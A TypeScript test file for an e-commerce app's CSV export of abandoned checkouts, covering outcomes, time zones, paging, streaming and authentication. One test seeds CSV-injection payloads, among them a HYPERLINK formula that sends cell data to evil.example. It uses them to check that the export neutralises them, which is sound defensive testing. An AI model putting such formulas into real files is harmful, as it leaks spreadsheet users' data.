// The CSV export of a period's checkouts, on SQLite and PostgreSQL: the model (app/models/checkout-export.server.ts)
// at a fixed app time, and the route (GET /app/export/checkouts.csv) with genuinely signed session tokens. Columns and
// header; every outcome; a staff alert is never the message credited; completed-before-abandonment, test, future and
// other shops' checkouts are left out; hostile text comes out inert; the period is the shop's days (America/New_York,
// across the DST change); 3,000 checkouts stream a page at a time; an unsigned request gets no file.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from "vitest";
import { parse } from "csv-parse/sync";
import type { Prisma } from "@prisma/client";
import { db } from "../../app/db.server";
import { OUTCOMES, sumRows, type MetricRow } from "../../app/lib/metric-facts";
import { daySpan, daysBetween, dayOf } from "../../app/lib/shop-days";
import { log } from "../../app/log.server";
import {
  CHECKOUT_EXPORT_COLUMNS,
  EXPORT_PAGE_SIZE,
  exportCheckoutRows,
  type CheckoutExportOptions,
  type CheckoutExportRow,
} from "../../app/models/checkout-export.server";
import { computeDay, periodDays } from "../../app/models/metric-days.server";
import * as route from "../../app/routes/app.export.checkouts[.]csv";
import { adminRequest } from "../helpers/admin";
import { seedAdminCheckout } from "../helpers/admin-seed";
import { OTHER_SHOP, TEST_SHOP } from "../helpers/constants";
import { resetDatabase, seedOfflineSession, seedShop } from "../helpers/db";
import { installShop } from "../helpers/install";
import { startAdminGraphqlStandin, type AdminGraphqlStandin } from "../helpers/standins/admin-graphql";
import { addHours, addMinutes, T0 } from "../helpers/time";

const TZ = "America/New_York";
const HEADER = [
  "Day (shop time zone)",
  "Abandoned at (UTC)",
  "Checkout token",
  "Email",
  "First name",
  "Cart value",
  "Currency",
  "Returning customer",
  "Source",
  "Owner",
  "Holdout group",
  "Messages sent",
  "Outcome",
  "Ordered at (UTC)",
  "Order",
  "Recovered at (UTC)",
  "Recovered revenue",
  "Attributed message channel",
  "Attributed message step",
  "Attributed message step id",
  "Attributed message sent at (UTC)",
];

/** Records as csv-parse (a maintained RFC 4180 reader) reads them: a differential check of what we write. */
function parseCsv(text: string): string[][] {
  return parse(text, { relax_column_count: false, record_delimiter: "\r\n" }) as string[][];
}

/** The file's records as objects keyed by header. */
function readCsv(text: string): { header: string[]; rows: Array<Record<string, string>> } {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [header, ...records] = parseCsv(text.slice(1));
  for (const r of records) expect(r).toHaveLength(header.length);
  return { header, rows: records.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

async function getCsv(path: string, shop?: string) {
  const res = await route.loader({ request: await adminRequest(path, { shop }), params: {}, context: {} });
  // Response.text() would drop the BOM (UTF-8 decode): decode keeping it, to see it is there.
  return { res, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer()) };
}

let seq = 0;
const checkout = (data: Partial<Prisma.CheckoutUncheckedCreateInput> = {}) => seedAdminCheckout(data, { now: T0 });

async function message(checkoutId: string, data: Partial<Prisma.MessageUncheckedCreateInput> = {}) {
  seq += 1;
  return db.message.create({
    data: { shop: TEST_SHOP, checkoutId, stepId: `step-${seq}`, stepIndex: 0, channel: "email", status: "sent", sentAt: T0, ...data },
  });
}

async function order(checkoutToken: string, data: Partial<Prisma.OrderUncheckedCreateInput> = {}) {
  seq += 1;
  return db.order.create({ data: { shop: TEST_SHOP, orderId: `gid://shopify/Order/${seq}`, checkoutToken, totalMinor: 5000, shopifyCreatedAt: T0, ...data } });
}

/** The week 2026-11-14 .. 2026-11-20 in New York, at T0 (2026-11-20 10:00 UTC), window 48 h. */
const week = (o: Partial<CheckoutExportOptions> = {}): CheckoutExportOptions => ({
  shop: TEST_SHOP,
  from: daySpan("2026-11-14", TZ).start,
  to: daySpan("2026-11-20", TZ).end,
  timeZone: TZ,
  currency: "USD",
  windowHours: 48,
  asOf: T0,
  stepLabels: { "step-email-1": "First reminder" },
  ...o,
});

async function collect(o: CheckoutExportOptions): Promise<CheckoutExportRow[]> {
  const out: CheckoutExportRow[] = [];
  for await (const r of exportCheckoutRows(o)) out.push(r);
  return out;
}

const byToken = (rows: readonly CheckoutExportRow[]) => new Map(rows.map((r) => [r.token, r]));

/** One checkout per outcome (two opted out), a week before T0 in New York. */
async function seedOutcomes() {
  const ago = (h: number) => addHours(T0, -h);
  const rec = await checkout({ token: "t-recovered", abandonedAt: ago(30), completedAt: ago(20), recoveredAt: ago(20), recoveredRevenueMinor: 4250 });
  const credited = await message(rec.id, { stepId: "step-email-1", channel: "email", sentAt: ago(25) });
  await message(rec.id, { stepId: "step-push-1", channel: "push", sentAt: ago(27) });
  await db.checkout.update({ where: { id: rec.id }, data: { attributedMessageId: credited.id } });
  await order(rec.token, { name: "#1001", shopifyCreatedAt: ago(20) });

  const before = await checkout({ token: "t-before", abandonedAt: ago(30), completedAt: ago(29) });
  await message(before.id, { sentAt: ago(28.5) }); // after the order: not before it
  await order(before.token, { name: "#1002", shopifyCreatedAt: ago(29) });

  const notCredited = await checkout({ token: "t-not-credited", abandonedAt: ago(30), completedAt: ago(28) });
  await message(notCredited.id, { sentAt: ago(29) });

  const unsubscribed = await checkout({ token: "t-opted-out", abandonedAt: ago(30) });
  await message(unsubscribed.id, { sentAt: ago(29), unsubscribedAt: ago(28) });
  await checkout({ token: "t-spam", abandonedAt: ago(30), stopReason: "spam_report" });

  await checkout({ token: "t-handed-off", abandonedAt: ago(30), handoff: true, owner: "  Grace  " });
  await checkout({ token: "t-in-window", abandonedAt: ago(2) });
  await checkout({ token: "t-lost", abandonedAt: ago(72) });
}

let admin: AdminGraphqlStandin;

beforeAll(async () => {
  admin = await startAdminGraphqlStandin();
});
afterAll(async () => {
  await admin.close();
});
beforeEach(async () => {
  await resetDatabase();
  // Installed through afterAuth: the shop's time zone and currency come from its profile.
  await installShop(admin, { shop: { ianaTimezone: TZ, currencyCode: "USD" } });
  await seedShop(OTHER_SHOP);
  await seedOfflineSession(OTHER_SHOP);
});
afterEach(() => {
  vi.restoreAllMocks();
});

describe("checkout export: rows", () => {
  it("gives every outcome for a checkout built to have it, with the credited message and the order", async () => {
    const ago = (h: number) => addHours(T0, -h);
    await seedOutcomes();
    const rows = byToken(await collect(week()));
    expect(new Set([...rows.values()].map((r) => r.outcome))).toEqual(new Set(OUTCOMES));
    expect(Object.fromEntries([...rows].map(([t, r]) => [t, r.outcome]))).toEqual({
      "t-recovered": "recovered",
      "t-before": "ordered_before_message",
      "t-not-credited": "ordered_not_credited",
      "t-opted-out": "opted_out",
      "t-spam": "opted_out",
      "t-handed-off": "handed_off",
      "t-in-window": "in_window",
      "t-lost": "lost",
    });
    expect(rows.get("t-recovered")).toMatchObject({
      messagesSent: 2,
      cartValue: "50.00",
      currency: "USD",
      orderedAt: ago(20).toISOString(),
      orderName: "#1001",
      recoveredAt: ago(20).toISOString(),
      recoveredRevenue: "42.50",
      attributedChannel: "Email",
      attributedStep: "First reminder",
      attributedStepId: "step-email-1",
      attributedSentAt: ago(25).toISOString(),
    });
    expect(rows.get("t-before")).toMatchObject({ orderName: "#1002", recoveredAt: null, recoveredRevenue: null, attributedChannel: null });
    expect(rows.get("t-handed-off")).toMatchObject({ owner: "Grace", holdoutGroup: "not_decided" });
    expect(rows.get("t-lost")).toMatchObject({ owner: "unassigned", orderName: null, orderedAt: null, messagesSent: 0 });
  });

  it("agrees with the daily metrics of the same days: checkouts, recovered, revenue, outcomes, owners, sources, groups", async () => {
    await seedOutcomes();
    const ago = (h: number) => addHours(T0, -h);
    const alert = await checkout({
      token: "t-alert",
      abandonedAt: ago(40),
      completedAt: ago(20),
      recoveredAt: ago(20),
      recoveredRevenueMinor: 999,
      holdout: true,
    });
    const a = await message(alert.id, { channel: "staff_alert", stepId: "handoff", sentAt: ago(30) });
    await db.checkout.update({ where: { id: alert.id }, data: { attributedMessageId: a.id } });
    await checkout({ token: "t-eur", abandonedAt: ago(50), shopCurrency: "EUR", shopTotalMinor: 100, holdout: false, sourceName: "POS" });
    const o = week();
    const rows = await collect(o);
    const counts = (pick: (r: CheckoutExportRow) => string) => {
      const m = new Map<string, number>();
      for (const r of rows) m.set(pick(r), (m.get(pick(r)) ?? 0) + 1);
      return m;
    };
    const byDay = await Promise.all(daysBetween("2026-11-14", "2026-11-20").map(async (day) => [day, await computeDay(db, TEST_SHOP, day, o)] as const));
    const metrics = sumRows(byDay.flatMap(([, r]) => r));
    const dim = (d: string) => new Map([...(metrics.get(d) ?? new Map())].map(([k, m]) => [k, m.checkouts]));
    expect(rows.length).toBe(metrics.get("all")!.get("all")!.checkouts);
    expect(rows.filter((r) => r.outcome === "recovered").length).toBe(metrics.get("all")!.get("all")!.recovered);
    const revenue = rows.reduce((s, r) => s + (r.recoveredRevenue ? Math.round(Number(r.recoveredRevenue) * 100) : 0), 0);
    expect(revenue).toBe(metrics.get("all")!.get("all")!.revenueMinor);
    expect(rows.reduce((s, r) => s + r.messagesSent, 0)).toBe(metrics.get("all")!.get("all")!.sent);
    expect(counts((r) => r.outcome)).toEqual(dim("outcome"));
    expect(counts((r) => r.owner)).toEqual(dim("owner"));
    expect(counts((r) => r.source)).toEqual(dim("source"));
    const cohortOf = (r: readonly MetricRow[]) => r.find((x) => x.dim === "all")?.checkouts ?? 0;
    expect(counts((r) => r.day)).toEqual(new Map(byDay.map(([day, r]) => [day, cohortOf(r)] as const).filter(([, n]) => n > 0)));
    const groups = counts((r) => r.holdoutGroup);
    groups.delete("not_decided");
    expect(new Map([...groups].map(([k, n]) => [k === "held_out" ? "holdout" : k, n]))).toEqual(dim("group"));
  });

  it("never credits a staff alert: the order is not a recovery, and an alert is not a message sent", async () => {
    const ago = (h: number) => addHours(T0, -h);
    const a = await checkout({ token: "t-alert-credited", abandonedAt: ago(30), completedAt: ago(20), recoveredAt: ago(20), recoveredRevenueMinor: 5000 });
    await message(a.id, { stepId: "step-email-1", channel: "email", sentAt: ago(26) });
    const alert = await message(a.id, { stepId: "handoff", channel: "staff_alert", sentAt: ago(25) });
    await db.checkout.update({ where: { id: a.id }, data: { attributedMessageId: alert.id } });

    const b = await checkout({ token: "t-alert-only", abandonedAt: ago(30), completedAt: ago(20), recoveredAt: ago(20), recoveredRevenueMinor: 5000 });
    const onlyAlert = await message(b.id, { stepId: "reply:1", channel: "staff_alert", sentAt: ago(25) });
    await db.checkout.update({ where: { id: b.id }, data: { attributedMessageId: onlyAlert.id } });

    const rows = byToken(await collect(week()));
    const none = { recoveredAt: null, recoveredRevenue: null, attributedChannel: null, attributedStep: null, attributedStepId: null, attributedSentAt: null };
    expect(rows.get("t-alert-credited")).toMatchObject({ outcome: "ordered_not_credited", messagesSent: 1, ...none });
    expect(rows.get("t-alert-only")).toMatchObject({ outcome: "ordered_before_message", messagesSent: 0, ...none });
    for (const r of rows.values()) expect(r.attributedChannel).not.toBe("Staff alert");
  });

  it("leaves out checkouts that never entered the cadence, and other shops'", async () => {
    const ago = (h: number) => addHours(T0, -h);
    await checkout({ token: "t-kept", abandonedAt: ago(30) });
    await checkout({ token: "t-completed-before", abandonedAt: ago(30), completedAt: ago(30.5), status: "completed" });
    await checkout({ token: "t-completed-at", abandonedAt: ago(30), completedAt: ago(30), status: "completed" });
    await checkout({ token: "t-test", abandonedAt: ago(30), isTest: true });
    await checkout({ token: "t-not-yet", abandonedAt: addMinutes(T0, 1) });
    await checkout({ token: "t-never-abandoned", abandonedAt: null, status: "open" });
    await checkout({ token: "t-other-shop", shop: OTHER_SHOP, abandonedAt: ago(30) });
    expect((await collect(week())).map((r) => r.token)).toEqual(["t-kept"]);
  });

  it("shows personal fields as the pipeline does, and none for a redacted checkout", async () => {
    const ago = (h: number) => addHours(T0, -h);
    await checkout({ token: "t-shown", abandonedAt: ago(30), email: "ada@example.com", firstName: "Ada", returningCustomer: true, holdout: false });
    await checkout({ token: "t-redacted", abandonedAt: ago(31), email: "left@example.com", firstName: "Left", redactedAt: ago(1), holdout: true });
    const rows = byToken(await collect(week()));
    expect(rows.get("t-shown")).toMatchObject({ email: "ada@example.com", firstName: "Ada", returning: true, holdoutGroup: "messaged", source: "unknown" });
    expect(rows.get("t-redacted")).toMatchObject({ email: "", firstName: "", holdoutGroup: "held_out" });
  });

  it("writes money in the shop's currency with its decimals; another currency's amounts are left blank", async () => {
    const ago = (h: number) => addHours(T0, -h);
    await checkout({ token: "t-kwd", abandonedAt: ago(30), shopCurrency: "KWD", shopTotalMinor: 12345, sourceName: " Web " });
    await checkout({ token: "t-eur", abandonedAt: ago(30), shopCurrency: "EUR", shopTotalMinor: 999 });
    await checkout({ token: "t-unknown", abandonedAt: ago(30), shopCurrency: "KWD", shopTotalMinor: null });
    const kwd = byToken(await collect(week({ currency: "KWD" })));
    expect(kwd.get("t-kwd")).toMatchObject({ cartValue: "12.345", currency: "KWD", source: "web" });
    expect(kwd.get("t-eur")).toMatchObject({ cartValue: null, currency: "KWD" });
    expect(kwd.get("t-unknown")).toMatchObject({ cartValue: null });
    // The shop's currency not known yet: each checkout's own.
    const unknown = byToken(await collect(week({ currency: null })));
    expect(unknown.get("t-eur")).toMatchObject({ cartValue: "9.99", currency: "EUR" });
  });

  it("takes the period in the shop's days: New York midnights, across the DST change, and each row's day there", async () => {
    const from = daySpan("2026-10-29", TZ).start; // 04:00 UTC (EDT)
    const to = daySpan("2026-11-04", TZ).end; // 2026-11-05 05:00 UTC (EST)
    expect(from.toISOString()).toBe("2026-10-29T04:00:00.000Z");
    expect(to.toISOString()).toBe("2026-11-05T05:00:00.000Z");
    const ms = (d: Date, n: number) => new Date(d.getTime() + n);
    await checkout({ token: "t-before-start", abandonedAt: ms(from, -1) });
    await checkout({ token: "t-at-start", abandonedAt: from });
    await checkout({ token: "t-dst-day-late", abandonedAt: new Date("2026-11-02T04:30:00Z") }); // 23:30 EST on 1 Nov (a 25-hour day)
    await checkout({ token: "t-last-ms", abandonedAt: ms(to, -1) });
    await checkout({ token: "t-at-end", abandonedAt: to });
    const rows = await collect(week({ from, to, asOf: new Date("2026-11-10T00:00:00Z") }));
    expect(rows.map((r) => [r.token, r.day])).toEqual([
      ["t-at-start", "2026-10-29"],
      ["t-dst-day-late", "2026-11-01"],
      ["t-last-ms", "2026-11-04"],
    ]);
  });

  it("walks 3,000 checkouts in pages of 1,000 by (abandoned_at, id), yielding before the next page is read", async () => {
    expect(EXPORT_PAGE_SIZE).toBe(1000);
    const base = daySpan("2026-11-14", TZ).start;
    // Groups of seven share an abandonment moment, so page boundaries fall inside ties. The first 1,200 ordered (more
    // than one order query's worth in the first page); every fourth got a message.
    const data = Array.from({ length: 3000 }, (_, i) => {
      const abandonedAt = new Date(base.getTime() + Math.floor(i / 7) * 60_000);
      return {
        shop: TEST_SHOP,
        token: `bulk-${String(i).padStart(4, "0")}`,
        email: `bulk${i}@example.com`,
        firstName: "Bulk",
        shopifyCreatedAt: base,
        shopifyUpdatedAt: base,
        abandonedAt,
        completedAt: i < 1200 ? addHours(abandonedAt, 5) : null,
        status: i < 1200 ? "completed" : "abandoned",
        shopCurrency: "USD",
        shopTotalMinor: 1000 + i,
      };
    });
    for (let i = 0; i < data.length; i += 500) await db.checkout.createMany({ data: data.slice(i, i + 500) });
    const ids = new Map((await db.checkout.findMany({ where: { shop: TEST_SHOP }, select: { id: true, token: true } })).map((c) => [c.token, c.id]));
    const messaged = data.filter((_, i) => i % 4 === 0);
    const messages = messaged.map((d) => ({
      shop: TEST_SHOP,
      checkoutId: ids.get(d.token)!,
      stepId: "step-email-1",
      stepIndex: 0,
      channel: "email",
      status: "sent",
      sentAt: addHours(d.abandonedAt, 1),
    }));
    for (let i = 0; i < messages.length; i += 500) await db.message.createMany({ data: messages.slice(i, i + 500) });
    const orders = data
      .slice(0, 1200)
      .map((d, i) => ({ shop: TEST_SHOP, orderId: `bulk-order-${i}`, name: `#${i}`, checkoutToken: d.token, shopifyCreatedAt: d.completedAt! }));
    for (let i = 0; i < orders.length; i += 500) await db.order.createMany({ data: orders.slice(i, i + 500) });

    const pages: Array<{ checkouts: number; messages: number; orders: number }> = [];
    const pagesReadAt: number[] = [];
    const rows: CheckoutExportRow[] = [];
    for await (const r of exportCheckoutRows(week({ onPage: ({ checkouts, messages, orders }) => pages.push({ checkouts, messages, orders }) }))) {
      pagesReadAt.push(pages.length);
      if (rows.length) expect(r.abandonedAt >= rows[rows.length - 1].abandonedAt).toBe(true);
      rows.push(r);
    }
    expect(pages).toEqual([
      { checkouts: 1000, messages: 250, orders: 1000 },
      { checkouts: 1000, messages: 250, orders: 200 },
      { checkouts: 1000, messages: 250, orders: 0 },
    ]);
    expect(rows).toHaveLength(3000);
    expect(new Set(rows.map((r) => r.token))).toEqual(new Set(data.map((d) => d.token)));
    // Every row has its own messages and order, across page boundaries and ties.
    for (const r of rows) {
      const i = Number(r.token.slice("bulk-".length));
      expect([r.messagesSent, r.orderName]).toEqual([i % 4 === 0 ? 1 : 0, i < 1200 ? `#${i}` : null]);
    }
    // Row n is yielded while only the pages up to its own have been read.
    expect(pagesReadAt[0]).toBe(1);
    expect(pagesReadAt[999]).toBe(1);
    expect(pagesReadAt[1000]).toBe(2);
    expect(pagesReadAt[2999]).toBe(3);
  });
});

describe("checkout export: the route", () => {
  it("answers a CSV attachment for the period: BOM, the header, one row per checkout, no caching", async () => {
    const now = new Date();
    const c = await seedAdminCheckout({ token: "t-route", firstName: "Ada", email: "ada@example.com", abandonedAt: addHours(now, -29) });
    const m = await db.message.create({
      data: { shop: TEST_SHOP, checkoutId: c.id, stepId: "manual:1", stepIndex: 0, channel: "manual_whatsapp", status: "sent", sentAt: addHours(now, -28) },
    });
    await db.checkout.update({
      where: { id: c.id },
      data: { completedAt: addHours(now, -27), recoveredAt: addHours(now, -27), recoveredRevenueMinor: 5000, attributedMessageId: m.id },
    });
    const expected = periodDays(now, TZ, 7);
    const { res, text } = await getCsv("/app/export/checkouts.csv?days=7");
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toBe(`attachment; filename="checkouts-${expected.from}-to-${expected.to}.csv"`);
    expect(res.headers.get("Cache-Control")).toBe("no-store");
    const { header, rows } = readCsv(text);
    expect(header).toEqual(HEADER);
    expect(CHECKOUT_EXPORT_COLUMNS.map((col) => col.header)).toEqual(HEADER);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toEqual({
      "Day (shop time zone)": dayOf(addHours(now, -29), TZ),
      "Abandoned at (UTC)": addHours(now, -29).toISOString(),
      "Checkout token": "t-route",
      Email: "ada@example.com",
      "First name": "Ada",
      "Cart value": "50.00",
      Currency: "USD",
      "Returning customer": "no",
      Source: "unknown",
      Owner: "unassigned",
      "Holdout group": "Not decided",
      "Messages sent": "1",
      Outcome: "Recovered",
      "Ordered at (UTC)": addHours(now, -27).toISOString(),
      Order: "",
      "Recovered at (UTC)": addHours(now, -27).toISOString(),
      "Recovered revenue": "50.00",
      "Attributed message channel": "WhatsApp (sent by hand)",
      "Attributed message step": "Sent by hand",
      "Attributed message step id": "manual:1",
      "Attributed message sent at (UTC)": addHours(now, -28).toISOString(),
    });
  });

  it("reads the period with parsePeriod (7, 30, 90; anything else is 30) from the shop's day", async () => {
    const now = new Date();
    for (const [q, days] of [
      ["?days=90", 90],
      ["?days=30", 30],
      ["?days=12", 30],
      ["", 30],
    ] as const) {
      const p = periodDays(now, TZ, days);
      const { res } = await getCsv(`/app/export/checkouts.csv${q}`);
      expect(res.headers.get("Content-Disposition")).toBe(`attachment; filename="checkouts-${p.from}-to-${p.to}.csv"`);
    }
  });

  it("starts the period at the shop's midnight, days ago", async () => {
    const now = new Date();
    const p = periodDays(now, TZ, 7);
    const start = daySpan(p.from, TZ).start;
    await seedAdminCheckout({ token: "t-just-before", abandonedAt: new Date(start.getTime() - 1) });
    await seedAdminCheckout({ token: "t-first-moment", abandonedAt: start });
    const { rows } = readCsv((await getCsv("/app/export/checkouts.csv?days=7")).text);
    expect(rows.map((r) => [r["Checkout token"], r["Day (shop time zone)"]])).toEqual([["t-first-moment", p.from]]);
  });

  it("writes hostile text inert: formulas get an apostrophe, commas and quotes are quoted", async () => {
    const now = new Date();
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")';
    await seedAdminCheckout({ token: "t-formula", firstName: hyperlink, email: "@SUM(1+1)@example.com", abandonedAt: addHours(now, -30) });
    await seedAdminCheckout({ token: "t-comma", firstName: 'Smith, "Bob"', owner: "-2+3", abandonedAt: addHours(now, -29) });
    await seedAdminCheckout({ token: "t-lines", firstName: "two\r\nlines", sourceName: "+web", abandonedAt: addHours(now, -28) });
    const { text } = await getCsv("/app/export/checkouts.csv?days=7");
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"")"`);
    expect(text).toContain(`,"Smith, ""Bob""",`);
    const { rows } = readCsv(text);
    const of = new Map(rows.map((r) => [r["Checkout token"], r]));
    expect(of.get("t-formula")).toMatchObject({ "First name": `'${hyperlink}`, Email: "'@SUM(1+1)@example.com" });
    expect(of.get("t-comma")).toMatchObject({ "First name": 'Smith, "Bob"', Owner: "'-2+3" });
    expect(of.get("t-lines")).toMatchObject({ "First name": "two\r\nlines", Source: "'+web" });
    for (const r of rows) for (const v of Object.values(r)) expect(/^[=+\-@\t\r]/.test(v)).toBe(false);
  });

  it("streams 3,000 rows a page per read: after the first read one page has been read, and the rest only as pulled", async () => {
    const now = new Date();
    const base = addHours(now, -50);
    const data = Array.from({ length: 3000 }, (_, i) => ({
      shop: TEST_SHOP,
      token: `stream-${i}`,
      shopifyCreatedAt: base,
      shopifyUpdatedAt: base,
      abandonedAt: new Date(base.getTime() + Math.floor(i / 3) * 1000),
      status: "abandoned",
      shopCurrency: "USD",
      shopTotalMinor: 2500,
    }));
    for (let i = 0; i < data.length; i += 500) await db.checkout.createMany({ data: data.slice(i, i + 500) });
    const info = vi.spyOn(log, "info");
    const ended = () => info.mock.calls.filter((c) => c[1] === "export: checkouts csv").map((c) => c[0] as unknown as Record<string, unknown>);

    // Read once, then stop: one page was read, a page of rows sent, and nothing read ahead.
    const res = await route.loader({ request: await adminRequest("/app/export/checkouts.csv?days=7"), params: {}, context: {} });
    const reader = res.body!.getReader();
    const first = await reader.read();
    const firstText = new TextDecoder("utf-8", { ignoreBOM: true }).decode(first.value);
    expect(parseCsv(firstText.slice(1))).toHaveLength(1 + 1000);
    await reader.cancel();
    expect(ended()).toEqual([expect.objectContaining({ rows: 1000, pages: 1, cancelled: true })]);

    // Read to the end: chunk by chunk, one page each.
    info.mockClear();
    const all = await route.loader({ request: await adminRequest("/app/export/checkouts.csv?days=7"), params: {}, context: {} });
    const chunks: string[] = [];
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    for (const r = all.body!.getReader(); ;) {
      const next = await r.read();
      if (next.done) break;
      chunks.push(decoder.decode(next.value, { stream: true }));
    }
    expect(chunks.length).toBeGreaterThanOrEqual(3);
    const { rows } = readCsv(chunks.join(""));
    expect(rows).toHaveLength(3000);
    expect(new Set(rows.map((r) => r["Checkout token"])).size).toBe(3000);
    expect(ended()).toEqual([expect.objectContaining({ rows: 3000, pages: 3, ms: expect.any(Number) })]);
  });

  it("fails the download, not a short file, when a later page cannot be read; a failing first page is an error answer", async () => {
    const now = new Date();
    const base = addHours(now, -50);
    const data = Array.from({ length: 1500 }, (_, i) => ({
      shop: TEST_SHOP,
      token: `fail-${i}`,
      shopifyCreatedAt: base,
      shopifyUpdatedAt: base,
      abandonedAt: new Date(base.getTime() + i * 1000),
      status: "abandoned",
    }));
    for (let i = 0; i < data.length; i += 500) await db.checkout.createMany({ data: data.slice(i, i + 500) });
    const original = db.checkout.findMany;
    const real = original.bind(db.checkout);
    let calls = 0;
    const findMany = vi.spyOn(db.checkout, "findMany").mockImplementation(((args: Parameters<typeof real>[0]) => {
      calls += 1;
      return calls === 2 ? Promise.reject(new Error("database went away")) : real(args);
    }) as unknown as typeof db.checkout.findMany);
    onTestFinished(() => {
      // Prisma's model delegate is a proxy whose property descriptors have no value: a restored spy leaves undefined.
      findMany.mockRestore();
      db.checkout.findMany = original;
    });
    const errors = vi.spyOn(log, "error");
    const res = await route.loader({ request: await adminRequest("/app/export/checkouts.csv?days=7"), params: {}, context: {} });
    expect(res.status).toBe(200);
    await expect(res.text()).rejects.toThrow("database went away");
    expect(errors.mock.calls.map((c) => [c[1], (c[0] as unknown as Record<string, unknown>).rows])).toEqual([["export: checkouts csv failed", 1000]]);

    calls = 1; // the next call (this request's first page) fails
    await expect(route.loader({ request: await adminRequest("/app/export/checkouts.csv?days=7"), params: {}, context: {} })).rejects.toThrow(
      "database went away",
    );
  });

  it("gives a shop only its own checkouts", async () => {
    await seedAdminCheckout({ token: "t-mine", abandonedAt: addHours(new Date(), -29) });
    const { res, text } = await getCsv("/app/export/checkouts.csv?days=7", OTHER_SHOP);
    expect(res.status).toBe(200);
    expect(readCsv(text).rows).toEqual([]);
  });

  it("refuses an unsigned request, and a forged token: no file", async () => {
    await seedAdminCheckout({ token: "t-secret", abandonedAt: addHours(new Date(), -29) });
    for (const headers of [{}, { Authorization: "Bearer not-a-token" }] as Array<Record<string, string>>) {
      let res: Response;
      try {
        res = await route.loader({ request: new Request("https://example.test/app/export/checkouts.csv?days=7", { headers }), params: {}, context: {} });
      } catch (thrown) {
        if (!(thrown instanceof Response)) throw thrown;
        res = thrown;
      }
      expect([302, 401, 403]).toContain(res.status);
      expect(res.headers.get("Content-Type") ?? "").not.toContain("text/csv");
      expect(await res.text()).not.toContain("t-secret");
    }
  });
});
